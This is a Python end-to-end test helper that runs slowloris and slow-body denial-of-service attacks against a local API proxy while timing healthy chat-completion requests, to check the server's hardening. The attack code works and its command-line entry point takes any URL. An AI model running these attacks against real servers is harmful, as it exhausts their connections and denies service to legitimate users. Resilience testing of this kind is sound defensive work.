"""Bounded resource attacks on loopback, and the healthy traffic measured while they run.

`slowloris` trickles header bytes on many connections; `slow_bodies` sends valid headers (with a
client key) and then a large body at 1 byte/s. Both reconnect whenever the server drops a
connection, as a real attacker would. `healthy` sends one request at a time on a fresh connection
and records each outcome and latency. Used by tests/e2e/test_hardening.py, and runnable as a
script to measure a server (`python tests/e2e/attacks.py URL slowloris 1500 15`).
"""

from __future__ import annotations

import http.client
import json
import socket
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field

DEMO_KEY = "sk-ftproxy-demo"
HI = json.dumps({"model": "gpt-4.1", "messages": [{"role": "user", "content": "hi"}]}).encode()


def _address(root: str) -> tuple[str, int]:
    host, port = root.removeprefix("http://").rsplit(":", 1)
    return host, int(port)


@dataclass
class Attack:
    """Connections held open by one attacker thread; `stop` ends it and closes them all."""

    opened: int = 0
    reconnects: int = 0
    stop: threading.Event = field(default_factory=threading.Event)


def _run(root: str, connections: int, first: Callable[[], bytes], attack: Attack) -> None:
    host, port = _address(root)
    socks: list[socket.socket | None] = [None] * connections

    def connect(i: int) -> None:
        try:
            sock = socket.create_connection((host, port), timeout=2)
            sock.setblocking(False)
            sock.send(first())
            socks[i] = sock
            attack.opened += 1
        except OSError:
            socks[i] = None

    for i in range(connections):
        if attack.stop.is_set():
            break
        connect(i)
    while not attack.stop.wait(1.0):  # one byte per connection per second
        for i, sock in enumerate(socks):
            if sock is None:
                connect(i)
                continue
            try:
                try:
                    if sock.recv(65536) == b"":  # an answer (408) or a close: go again
                        raise ConnectionResetError
                except BlockingIOError:
                    pass
                sock.send(b"a")
            except OSError:
                sock.close()
                attack.reconnects += 1
                connect(i)
    for sock in socks:
        if sock is not None:
            sock.close()


@contextmanager
def slowloris(root: str, connections: int) -> Iterator[Attack]:
    """Connections that send a request line and then one header byte per second, forever."""
    attack = Attack()
    thread = threading.Thread(
        target=_run,
        args=(root, connections, lambda: b"GET /v1/models HTTP/1.1\r\nHost: x\r\nX-Slow: ", attack),
        daemon=True,
    )
    thread.start()
    try:
        yield attack
    finally:
        attack.stop.set()
        thread.join(30)


@contextmanager
def slow_bodies(root: str, connections: int, length: int = 100_000) -> Iterator[Attack]:
    """Authenticated requests announcing `length` body bytes, then sending one per second."""
    head = (
        f"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {DEMO_KEY}\r\n"
        f"Content-Type: application/json\r\nContent-Length: {length}\r\n\r\n{{"
    ).encode()
    attack = Attack()
    thread = threading.Thread(target=_run, args=(root, connections, lambda: head, attack), daemon=True)
    thread.start()
    try:
        yield attack
    finally:
        attack.stop.set()
        thread.join(30)


@dataclass
class Healthy:
    latencies: list[float] = field(default_factory=list)  # seconds, successful requests
    failures: list[str] = field(default_factory=list)

    @property
    def total(self) -> int:
        return len(self.latencies) + len(self.failures)

    def success_rate(self) -> float:
        return len(self.latencies) / self.total if self.total else 0.0

    def p99_ms(self) -> float:
        if not self.latencies:
            return float("nan")
        ordered = sorted(self.latencies)
        return ordered[min(len(ordered) - 1, int(len(ordered) * 0.99))] * 1000.0

    def summary(self) -> str:
        return (
            f"{len(self.latencies)}/{self.total} healthy requests succeeded "
            f"({self.success_rate():.1%}), p99 {self.p99_ms():.0f} ms"
        )


def healthy(root: str, seconds: float, timeout_s: float = 10.0, clients: int = 2) -> Healthy:
    """Sequential chat completions from `clients` threads, a fresh connection each, for `seconds`."""
    host, port = _address(root)
    result = Healthy()
    lock = threading.Lock()
    deadline = time.monotonic() + seconds

    def client() -> None:
        while time.monotonic() < deadline:
            started = time.monotonic()
            conn = http.client.HTTPConnection(host, port, timeout=timeout_s)
            try:
                conn.request(
                    "POST",
                    "/v1/chat/completions",
                    HI,
                    {"Authorization": f"Bearer {DEMO_KEY}", "Content-Type": "application/json"},
                )
                answer = conn.getresponse()
                answer.read()
                outcome = None if answer.status == 200 else f"HTTP {answer.status}"
            except OSError as exc:
                outcome = f"{type(exc).__name__}: {exc}"
            finally:
                conn.close()
            with lock:
                if outcome is None:
                    result.latencies.append(time.monotonic() - started)
                else:
                    result.failures.append(outcome)

    threads = [threading.Thread(target=client, daemon=True) for _ in range(clients)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(seconds + timeout_s + 5)
    return result


def main(argv: list[str]) -> int:
    root, kind, connections, seconds = argv[0], argv[1], int(argv[2]), float(argv[3])
    attack = slowloris if kind == "slowloris" else slow_bodies
    print(f"baseline: {healthy(root, 3).summary()}", flush=True)
    with attack(root, connections) as running:
        time.sleep(2)  # let the attack take hold before measuring (a script, not a test)
        during = healthy(root, seconds)
        print(
            f"{kind} x {connections} ({running.opened} opened, {running.reconnects} reconnects): "
            f"{during.summary()}; failures: {sorted(set(during.failures))[:3]}",
            flush=True,
        )
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
